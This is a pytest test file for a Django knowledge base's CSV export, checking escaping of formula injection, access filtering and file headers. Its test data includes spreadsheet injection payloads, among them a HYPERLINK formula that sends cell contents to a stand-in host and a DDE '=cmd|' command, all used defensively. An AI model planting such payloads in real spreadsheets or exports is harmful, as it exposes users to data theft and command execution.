"""The full list as a CSV file: a row a record, read by spreadsheets as it is meant, and nothing hidden in it."""

import csv
from collections.abc import Callable
from datetime import UTC, date, datetime
from decimal import Decimal
from io import StringIO
from typing import Any

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import translation
from hypothesis import given
from hypothesis import strategies as st

from knowledge.exporting import csv_rows, export_records, safe_text
from knowledge.fields import define
from knowledge.fieldvalues import set_value
from knowledge.ledger.counting import matching
from knowledge.ledger.query import DocumentQuery
from knowledge.models import Document, Field, Level, State, Tag, Version
from knowledge.sharing import grant
from tests.api.calling import API, bearer, error_of
from tests.cast import DOYUN, HANEUL, JIWOO
from tests.conftest import Visitor
from tests.papers import current, edition, paper, shelf

Visit = Callable[..., Visitor]

ATTACKS = [
    "=HYPERLINK(\"http://x/?\"&A1)", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\u3000=1",
    "\u200b=1", "\ufeff=1", "＝1", "＋1", "－1", "＠1", " ＝1", "\x01=1", "\x00=1", "\u202e=1", "\u2028=1", "=",
    "가;=1", "가; ＝1", "가\n=1",
]  # fmt: skip


def read(content: bytes) -> list[dict[str, str]]:
    text = content.decode("utf-8-sig")
    return list(csv.DictReader(StringIO(text, newline="")))


def fetch(visitor: Visitor, address: str) -> list[dict[str, str]]:
    response: Any = visitor.get(address, headers={"accept-language": "en"})
    assert response.status_code == 200, response.content
    content = b"".join(response.streaming_content)
    assert len(content) == int(response["Content-Length"])
    rows = read(content)
    assert len(rows) == int(response["X-Total-Records"])
    return rows


# -- cells


@pytest.mark.parametrize("text", ATTACKS)
def test_no_text_begins_like_a_formula(text: str):
    (line,) = list(csv_rows([text], []))
    (cell,) = next(csv.reader(StringIO(line.decode("utf-8-sig"), newline="")))
    assert cell == safe_text(text)
    for part in cell.split(";"):
        assert part.lstrip().startswith("'") or not part.lstrip(" \u00a0\u3000\u200b\ufeff\x01\u202e").startswith(
            ("=", "+", "-", "@", "＝", "＋", "－", "＠")
        ), cell
    assert not set("\r\n\t\0") & set(cell)


@pytest.mark.parametrize("text", ["여비 규정", "2026-01-01", "3 = 3", "a@b.example", "", "'", "가 - 나", "1;2"])
def test_an_ordinary_text_stays_as_it_is(text: str):
    assert safe_text(text) == text


@given(st.lists(st.text(max_size=20), min_size=1, max_size=5))
def test_any_text_comes_back_on_one_line_as_it_was_written(texts: list[str]):
    lines = list(csv_rows(["열"] * len(texts), [texts]))
    assert len(lines) == 2
    assert lines[1].count(b"\n") == 1
    (cells,) = csv.reader(StringIO(lines[1].decode(), newline=""))
    assert cells == [safe_text(text) for text in texts] or texts == [""]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@"))


def test_numbers_and_dates_stay_what_they_are():
    row: list[Any] = [-5, Decimal("-1200.50"), Decimal("1E+3"), Decimal("0.0001"), date(2026, 1, 5), None]
    at = datetime(2026, 1, 5, 7, 30, tzinfo=UTC)
    assert list(csv_rows(["-열"], [[*row, at]])) == [
        "\ufeff'-열\r\n".encode(),
        b"-5,-1200.5,1000,0.0001,2026-01-05,,2026-01-05 07:30\r\n",
    ]


# -- records


@pytest.fixture
def library() -> list[Document]:
    """Three papers, the second with two versions, the last in a shelf of its own; one holds what attacks."""
    base = shelf("공용", is_open=True)
    amount, note = define("금액", type="money", by=None), define("=비고", type="text", by=None)
    first, second, hidden = paper("=cmd|'/c calc'!A1", on=base), paper("여비", on=base), paper("급여", on=shelf("인사"))
    edition(second, number=2, path="여비-2.txt", state=State.FAILED)
    first.tags.add(Tag.objects.create(name="@표"), Tag.objects.create(name="가"))
    set_value(first, amount, "KRW -1200.50", by=None)
    set_value(first, note, "+82-10", by=None)
    Version.objects.filter(pk=current(first).pk).update(author_name="＝외부", dated_on=date(2026, 1, 5))
    secret = Field.objects.create(name="비밀 항목", type="text")
    set_value(hidden, secret, "값", by=None)
    return [first, second, hidden]


@pytest.mark.django_db
def test_a_row_is_a_record_and_there_are_as_many_as_counted(visit: Visit, library: Any):
    for query in ("", "title=여비", "state=failed", "kb=공용", "title=없는 것"):
        rows = fetch(visit(JIWOO), f"/documents/export.csv?{query}")
        said = visit(JIWOO).get(f"{API}documents/?{query}").json()["totals"]
        assert len(rows) == said["total_matching_records"]
        assert rows == fetch(visit(JIWOO), f"{API}documents/export/?{query}")
    rows = fetch(visit(JIWOO), "/documents/export.csv")
    assert len(rows) == matching(JIWOO.viewer, DocumentQuery()).records == 3
    assert {row["document id"] for row in rows} == {str(each.uuid) for each in library[:2]}


@pytest.mark.django_db
def test_what_attacks_is_a_text_and_a_negative_amount_is_a_number(visit: Visit, library: Any):
    (row,) = [row for row in fetch(visit(JIWOO), "/documents/export.csv") if "cmd" in row["title"]]
    assert row["title"] == "'=cmd|'/c calc'!A1"
    assert row["author"] == "'＝외부"
    assert row["tags"] == "'@표; 가"
    assert (row["금액"], row["금액 (currency)"]) == ("-1200.5", "KRW")
    assert row["'=비고"] == "'+82-10"
    assert (row["date"], row["version"]) == ("2026-01-05", "1")


@pytest.mark.django_db
def test_nothing_hidden_is_in_the_file_not_even_a_column(visit: Visit, library: Any):
    response: Any = visit(JIWOO).get("/documents/export.csv")
    text = b"".join(response.streaming_content).decode()
    assert "비밀 항목" not in text
    assert "급여" not in text
    grant(library[2], to=JIWOO.user, level=Level.VIEW, by=None)
    assert any(row["비밀 항목"] == "값" for row in fetch(visit(JIWOO), "/documents/export.csv"))


@pytest.mark.django_db
def test_the_file_says_scope_and_day_and_opens_in_a_spreadsheet(visit: Visit, library: Any, settings: Any):
    for language, name in (("ko", "documents"), ("en", "documents_you_may_open")):
        visitor = visit(JIWOO)
        visitor.cookies[settings.LANGUAGE_COOKIE_NAME] = language
        response: Any = visitor.get("/documents/export.csv")
        assert b"".join(response.streaming_content).startswith(b"\xef\xbb\xbf")
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"].startswith("attachment; filename=")
        assert response["Content-Disposition"].rstrip('"').endswith(".csv")
        assert "no-store" in response["Cache-Control"]
        if language == "en":
            assert name in response["Content-Disposition"]


@pytest.mark.django_db
def test_a_wrong_filter_gives_no_file(visit: Visit, library: Any):
    page = visit(JIWOO).get("/documents/export.csv?kind=없는것")
    assert (page.status_code, page["Content-Type"]) == (400, "text/html; charset=utf-8")
    for query in ("kind=없는것", "scope=tenant", "colour=red"):
        answer = visit(JIWOO).get(f"{API}documents/export/?{query}", headers=bearer(JIWOO, "read"))
        assert answer.status_code == 400
        assert error_of(answer)["field"] == query.partition("=")[0]
    assert visit().get(f"{API}documents/export/").status_code == 401
    assert visit().get("/documents/export.csv")["Location"].startswith("/accounts/login/")


@pytest.mark.django_db
def test_a_longer_file_takes_no_more_statements(visit: Visit, originals: Any):
    base, amount = shelf(is_open=True), define("금액", type="money", by=None)
    visitor = visit(JIWOO)

    def statements(start: int, upto: int) -> int:
        for number in range(start, upto):
            document = paper(f"글 {number}", on=base)
            set_value(document, amount, "5원", by=None)
            Version.objects.filter(pk=current(document).pk).update(author=HANEUL.user)
        with CaptureQueriesContext(connection) as queries:
            fetch(visitor, "/documents/export.csv")
        return len(queries)

    statements(0, 2)
    assert statements(2, 3) == statements(3, 25)


@pytest.mark.django_db
def test_headers_are_in_the_readers_language(library: Any):
    with translation.override("en"):
        file = export_records(DOYUN.viewer, DocumentQuery()).file
    assert file.read().decode("utf-8-sig").startswith("title,version,")


@pytest.mark.slow
@pytest.mark.django_db(transaction=True)
def test_list_and_file_are_read_from_one_snapshot_outside_of_a_tests_transaction(visit: Visit, library: Any):
    visitor = visit(JIWOO)
    assert len(fetch(visitor, "/documents/export.csv")) == 3
    assert visitor.get("/documents/?kb=공용").context["matching"].records == 3
    assert visitor.get(f"{API}documents/").json()["totals"]["total_matching_records"] == 3
    assert visitor.get("/documents/?kb=없는 곳").status_code == 400
